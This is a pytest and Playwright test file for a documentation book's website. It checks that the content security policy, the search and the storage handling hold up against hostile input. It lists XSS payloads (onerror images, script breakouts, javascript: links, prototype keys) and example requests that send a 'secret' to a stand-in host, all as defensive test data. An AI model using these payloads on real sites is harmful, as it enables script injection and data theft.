"""Nobody makes a page do what is not in it: by a script, a word, a locked cupboard."""

import re
import sys
import warnings
from types import SimpleNamespace
from urllib.parse import urlencode

import pytest
from the_book import ROOT, documents
from visit import Visit, listen

sys.path.insert(0, str(ROOT / "_theme"))
with warnings.catch_warnings():  # MyST-NB's own
    warnings.simplefilter("ignore", DeprecationWarning)
    from backprop_book import policy

CHAPTER = "chapters/07-backpropagation-in-matrices.html"
VISITED = {f"{document}.html" for document in documents()} | {"search.html"}


@pytest.fixture
def page(browser):
    """Open a tab; close it, whatever happens."""
    page = browser.new_page()
    yield page
    page.close()


@pytest.fixture
def seen(page, address):
    """Return what a page does wrong while it is open."""
    seen = Visit()
    listen(page, address, seen)
    return seen


# --- The policy ---------------------------------------------------------------


def test_pages_that_no_chapter_is_keep_to_their_policy_too(site, page, address, seen):
    """One of each folder: `test_pages` reads the policies of all."""
    others = sorted({other.name for other in site.pages} - VISITED)
    of_a_kind = {name.rpartition("/")[0] or name: name for name in others}
    assert {"index.html", "404.html", "genindex.html", "_modules"} < {*of_a_kind}
    for name in of_a_kind.values():
        page.goto(address + name, wait_until="networkidle")
    assert seen.errors + seen.strangers == []


STRANGE = {
    "a script that was put in": """const script = document.createElement("script");
        script.textContent = "window.ran = true"; document.body.append(script);""",
    "a handler": """document.body.insertAdjacentHTML("beforeend",
        "<img src=x onerror='window.ran = true'>");""",
    "a script of another host": """const script = document.createElement("script");
        script.src = "http://localhost:9/x.js"; document.body.append(script);""",
    "an address that is a script": """const link = document.createElement("a");
        link.href = "javascript:window.ran = true"; document.body.append(link);
        link.click();""",
    "text that is evaluated": "setTimeout('window.ran = true')",
    "a frame": """document.body.insertAdjacentHTML("beforeend",
        "<iframe src='http://localhost:9/'></iframe>");""",
    "a picture that tells": "new Image().src = 'http://localhost:9/?secret'",
    "a request that tells": "fetch('http://localhost:9/?secret').catch(() => {})",
}


@pytest.mark.parametrize("attempt", STRANGE.values(), ids=STRANGE)
@pytest.mark.parametrize("place", ["http", "file"])
def test_what_is_strange_does_not_run(site, page, address, seen, attempt, place):
    page.goto((address if place == "http" else f"{site.root.as_uri()}/") + CHAPTER)
    page.evaluate(f"() => {{ {attempt} }}")
    with page.expect_console_message(lambda said: "ontent Security" in said.text):
        page.evaluate(f"() => {{ {attempt} }}")
    assert page.evaluate("window.ran") is None


MADE_UP = """<!DOCTYPE html>
<meta charset="utf-8">
<script>ours()</script><script src="more.js"></script>
<script type="application/ld+json">{"@type": "Book"}</script>
<style>p { color: red }</style><p>Words
"""


def test_a_policy_allows_what_a_page_holds_and_no_more():
    rules = policy.policy_of(MADE_UP).split("; ")
    assert rules[0] == "default-src 'none'"
    ours, red = policy.hashes(["ours()", "p { color: red }"])
    assert f"script-src 'self' file: {ours}" in rules
    assert f"style-src 'self' file: {red}" in rules
    assert "unsafe" not in policy.policy_of(MADE_UP)


def test_a_page_that_was_not_built_anew_gets_the_policy_that_it_has():
    once = policy.protected(MADE_UP)
    assert once.index("Content-Security-Policy") < once.index("<script>")
    assert policy.protected(once) == once
    changed = policy.protected(once.replace("ours", "theirs"))
    assert changed == policy.protected(MADE_UP.replace("ours", "theirs"))


def test_a_page_without_a_place_for_its_policy_is_refused(tmp_path):
    (tmp_path / "page.html").write_text("<p>Words", encoding="utf-8")
    app = SimpleNamespace(outdir=tmp_path, builder=SimpleNamespace(name="html"))
    with pytest.raises(
        policy.ExtensionError, match=r"page\.html: no encoding is named"
    ):
        policy.protect(app, None)


# --- The search ---------------------------------------------------------------

HOSTILE = [
    *("constructor", "__proto__", "hasOwnProperty", "toString", "valueOf"),
    *("__proto__ constructor", "-constructor", "(((", "\\", ".*", "%00", "a" * 50_000),
    *("zq xq " * 9_000, "\N{GRINNING FACE}" * 300, "<img src=x onerror=window.ran=1>"),
    *("</script><script>window.ran=1</script>", "'\"><svg onload=window.ran=1>"),
    "${window.ran=1}",
]
FOUND = "#search-results > .search-summary"


@pytest.mark.parametrize("words", HOSTILE, ids=lambda words: words[:20])
def test_no_word_stops_the_search(page, address, seen, words):
    page.goto(f"{address}search.html?{urlencode({'q': words})}")
    page.locator(
        f"{FOUND}[role=status]", has_text=re.compile("found [1-9]|did not match")
    ).wait_for()
    page.wait_for_load_state("networkidle")
    is_cut = "first 200 letters" in page.locator(".bd-search-container").inner_text()
    assert is_cut == (len(words) > 200)
    assert page.evaluate("window.ran") is None
    assert seen.errors == []


def test_a_word_that_every_object_has_is_found_where_it_stands(page, address):
    """The prototype is gone, the words are not."""
    page.goto(f"{address}search.html")
    page.evaluate("""() => {
        const { docnames, terms } = Search._index;
        Object.assign(terms, { constructor: [docnames.indexOf("chapters/index")] });
        Search.performSearch("constructor");
    }""")
    page.locator(FOUND, has_text="found 1 page").wait_for()


def test_a_title_of_a_section_is_text_among_the_hits(page, address, seen):
    page.goto(f"{address}search.html")
    page.evaluate("""() => {
        const title = "<img src=x onerror=window.ran=1> & more";
        Search.setIndex({ ...Search._index, alltitles: { [title]: [[0, null]] } });
        Search.performSearch("src=x onerror=window.ran=1");
    }""")
    page.locator(FOUND, has_text="found").wait_for()
    hits = page.locator("#search-results li a").all_inner_texts()
    assert any("<img src=x onerror=window.ran=1> & more" in hit for hit in hits)
    assert page.locator("#search-results img").count() == 0
    assert seen.errors == []


@pytest.mark.parametrize(
    "part",
    [
        "?highlight=%3Cimg%20src%3Dx%20onerror%3Dran()%3E",
        "#%3Cimg%20src=x%20onerror=ran()%3E",
        "#'\"]\\",
        "#%E0",
    ],
)
def test_no_address_makes_a_page_do_more(page, address, seen, part):
    page.goto(address + CHAPTER + part, wait_until="networkidle")
    assert page.locator("img[src=x]").count() == 0
    assert seen.errors == []


# --- Storage ------------------------------------------------------------------

FORBIDDEN = """for (const name of ["localStorage", "sessionStorage"])
    Object.defineProperty(window, name, { configurable: true, get() {
        throw new DOMException("No storage here.", "SecurityError"); } });"""
FULL = """Storage.prototype.setItem = () => {
    throw new DOMException("No room is left.", "QuotaExceededError"); };"""


@pytest.mark.parametrize("state", [FORBIDDEN, FULL], ids=["forbidden", "full"])
def test_a_page_needs_no_storage(page, address, seen, state):
    page.add_init_script(state)
    page.set_viewport_size({"width": 1280, "height": 900})
    page.goto(address + CHAPTER, wait_until="networkidle")
    modes = set()
    for _ in range(3):
        page.locator(".theme-switch-button:visible").click()
        modes.add(page.evaluate("document.documentElement.dataset.mode"))
    assert modes == {"auto", "dark", "light"}
    page.locator(".primary-toggle:visible").click()
    page.locator("#pst-primary-sidebar").wait_for(state="hidden")
    page.keyboard.press("Control+k")
    page.keyboard.type("gradient")
    page.keyboard.press("Enter")
    page.wait_for_selector("#search-results li a")
    assert seen.errors == []


def test_what_was_kept_before_all_room_was_taken_counts(page, address):
    page.goto(address + CHAPTER)
    page.evaluate("localStorage.setItem('mode', 'dark')")
    page.add_init_script(FULL)
    page.reload()
    assert page.evaluate("document.documentElement.dataset.theme") == "dark"
